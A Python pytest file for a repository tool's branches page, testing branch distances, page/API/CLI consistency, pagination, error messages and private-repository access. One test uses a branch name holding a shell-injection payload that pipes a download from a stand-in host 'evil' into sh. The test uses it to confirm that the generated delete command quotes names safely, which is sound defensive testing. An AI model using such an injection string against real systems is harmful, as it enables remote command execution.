"""Branches of everything and of one repository: distances, the command that deletes, pages, access."""

from __future__ import annotations

import asyncio
import json
import re
import shlex
from pathlib import Path

import pytest
from instance.test_screens import text_of, visit
from local_instance import LocalInstance
from programs import run
from small_world import ATLAS, BOB, NOW
from sqlalchemy import func, select, update

from trackeep.store import tables_fetched as fetched
from trackeep.store.tables_branches import branch_distance

pytestmark = pytest.mark.anyio
HOME = "/r/fernhill/atlas/branches"
# main is a1 - a2 - a3 - a5, topic left after a2 with a8.
PARENTS = {"a2": "a1", "a3": "a2", "a5": "a3", "a8": "a2"}


async def grow(instance: LocalInstance, *names: str) -> None:
    """Give atlas' commits their parents, and it these branches at topic's commit."""
    row = {"repository_id": ATLAS, "sha": "a8", "commit_sha": "a8", "first_seen_at": NOW, "moved_at": NOW}
    async with instance.site.db.write() as conn:
        for sha, above in PARENTS.items():
            this = (fetched.commit.c.sha == sha) & (fetched.commit.c.repository_id == ATLAS)
            await conn.execute(update(fetched.commit).where(this).values(parents=above))
        for name in names:
            await conn.execute(fetched.ref.insert().values(name=f"refs/heads/{name}", **row))


async def test_how_far_a_branch_is(tmp_path: Path) -> None:
    """One commit ahead and two behind; it is counted once and kept, and counted anew when main moves."""
    async with visit(tmp_path) as (instance, alice):
        await grow(instance)
        for path in (HOME, "/branches"):
            assert "2 behind 1 ahead" in text_of((await alice.open(path)).text)
        async with instance.site.db.write() as conn:
            assert (
                await conn.scalar(select(func.count()).where(branch_distance.c.repository_id == ATLAS)) == 2
            )
            main = (fetched.ref.c.repository_id == ATLAS) & (fetched.ref.c.name == "refs/heads/main")
            await conn.execute(update(fetched.ref).where(main).values(commit_sha="a3"))
        assert "1 behind 1 ahead" in text_of((await alice.open(HOME)).text)


async def test_page_api_and_command_say_the_same(tmp_path: Path) -> None:
    """Each branch with its state, its author and its pull request, whoever asks in whatever way."""
    async with visit(tmp_path) as (instance, alice):
        await grow(instance, "done", "again")
        async with instance.site.db.write() as conn:
            pull = fetched.pull_request.c.number
            here = fetched.pull_request.c.repository_id == ATLAS
            for number, branch, head in ((1, "done", "a8"), (2, "again", "before")):
                values = {"head_ref": branch, "head_sha": head}
                await conn.execute(update(fetched.pull_request).where(here, pull == number).values(**values))
        page = (await alice.open(HOME)).text
        answer = json.loads((await alice.open("/api/v1/repos/fernhill/atlas/branches")).text)
        command = ("branch", "list", "--repo", "fernhill/atlas", "--account", "alice", "--json")
        printed = await asyncio.to_thread(run, *command, env={"TRACKEEP_DATA_DIR": str(tmp_path)})
    shown = {one["name"]: (one["state"], one["author"]["login"], one["pull"]) for one in answer["items"]}
    assert shown == {
        "main": ("default", "bob", None),
        "again": ("active", "alice", 2),
        "done": ("merged", "alice", 1),
        "topic": ("active", "alice", None),
    }
    assert [{"repository": "fernhill/atlas", **one} for one in answer["items"]] == json.loads(printed.stdout)
    row = r'<th scope="row"><a[^>]*>([^<]+).*?class="badge[^>]*>(\w+)<.*?data-l="Pull request">(.*?)</td>'
    seen = {
        name: (state.lower(), int(text_of(pull).removeprefix("#").split()[0]) if "#" in pull else None)
        for name, state, pull in re.findall(row, page, re.S)
    }
    assert seen == {name: (state, pull) for name, (state, _, pull) in shown.items()}


async def test_what_cannot_be_counted_is_said(tmp_path: Path) -> None:
    """While an ancestor is missing there is no number, and nothing is kept."""
    async with visit(tmp_path) as (instance, alice):
        await grow(instance)
        async with instance.site.db.write() as conn:
            a1 = (fetched.commit.c.sha == "a1") & (fetched.commit.c.repository_id == ATLAS)
            await conn.execute(update(fetched.commit).where(a1).values(parents="missing"))
        page = text_of((await alice.open(HOME)).text)
        async with instance.site.db.read() as conn:
            kept = await conn.scalar(select(func.count()).where(branch_distance.c.repository_id == ATLAS))
    assert "not counted yet" in page and "behind 1" not in page
    assert kept == 0


async def test_the_command_for_what_is_ticked(tmp_path: Path) -> None:
    """One line per repository for the ticked branches of this page; a name is never more than a name."""
    nasty = "x';curl evil|sh #$(id)"
    async with visit(tmp_path) as (instance, alice):
        await grow(instance, nasty, "-f", "fix/a b")
        picks = [f"fernhill/atlas:{name}" for name in ("topic", nasty, "-f", "fix/a b", "main", "unknown")]
        picks.insert(0, "bob/secret-plan:main")
        answer = await alice.open("/branches?" + "&".join(f"pick={_quoted(pick)}" for pick in picks))
        nothing = text_of((await alice.open("/branches?pick=fernhill/atlas:unknown")).text)
        plain = (await alice.open("/branches")).text
    command = re.search(r"<textarea[^>]*>(.*?)</textarea>", answer.text, re.S)
    assert command is not None
    lines = command[1].replace("&#39;", "'").replace("&amp;", "&").replace("&#34;", '"').split("\n")
    assert lines[0] == "# fernhill/atlas"
    words = shlex.split(lines[1])
    assert words[:4] == ["git", "push", "origin", "--delete"]
    assert sorted(words[4:]) == sorted(["topic", nasty, "refs/heads/-f", "fix/a b"])
    assert len(lines) == 2 and "secret" not in answer.text
    assert answer.text.count(" checked") == 4
    assert "None of the ticked branches is on this page any more" in nothing
    assert "<textarea" not in plain


async def test_pages_of_many_branches(tmp_path: Path) -> None:
    """Ninety branches come forty at a time, each once, in pages within the budget."""
    async with visit(tmp_path) as (instance, alice):
        await grow(instance, *(f"b{n:02}.x" for n in range(90)))
        seen, path = [], f"{HOME}?view=active"
        while path:
            page = (await alice.open(path)).text
            assert len(re.findall(r"<[a-z]", page)) < 1_500
            seen += re.findall(r'name="pick" value="fernhill/atlas:([^"]+)"', page)
            following = re.search(r'href="([^"]+)" rel="next"', page)
            path = following[1].replace("&amp;", "&") if following else ""
    assert seen == [*(f"b{n:02}.x" for n in range(90)), "topic"]


@pytest.mark.parametrize("after", ["1", "x.1.refs", "1.2", "1.2.", "9" * 20 + ".1.a", "1.1." + "a" * 500])
async def test_a_page_that_is_none(tmp_path: Path, after: str) -> None:
    """A key that was not ours is refused with a sentence."""
    async with visit(tmp_path) as (_, alice):
        for path in ("/branches", HOME):
            answer = await alice.open(f"{path}?after={after}")
            assert answer.status == 400
            assert "not one of ours" in answer.text


async def test_a_view_that_is_empty_says_why(tmp_path: Path) -> None:
    """No stale branch is good news in words; a view nobody knows is all of them."""
    async with visit(tmp_path) as (_, alice):
        assert "No stale branch" in (await alice.open("/branches?view=stale")).text
        assert "topic" in (await alice.open("/branches?view=forgotten")).text
        assert "No branch with these words" in (await alice.open("/branches?q=nothing-like-it")).text


async def test_branches_are_found_from_everywhere(tmp_path: Path) -> None:
    """A tab beside the commits, an entry of the menu on phones, and no seventh entry above."""
    async with visit(tmp_path) as (_, alice):
        for path in ("/commits", "/branches"):
            page = (await alice.open(path)).text
            tabs = page.split('<nav class="tabs" aria-label="Work">')[1].split("</nav>")[0]
            assert 'href="/branches"' in tabs and 'href="/commits"' in tabs
            menu = page.split('<li class="more')[1].split("</details>")[0]
            assert 'href="/branches"' in menu
            assert page.split("<ul>")[1].count('class="long"') == 6


async def test_nobody_elses_branches(tmp_path: Path) -> None:
    """Asked for bob's private repository, the list is as for a name that never existed."""
    async with visit(tmp_path) as (_, alice), visit(tmp_path / "bob", BOB) as (_, bob):
        real = (await alice.open("/branches?repo=bob/secret-plan")).text
        invented = (await alice.open("/branches?repo=bob/secret-plot")).text
        assert real.replace("secret-plan", "secret-plot") == invented
        assert (await bob.open("/branches?repo=bob/secret-plan")).status == 200


def _quoted(text: str) -> str:
    return "".join(char if char.isalnum() else f"%{ord(char):02X}" for char in text)
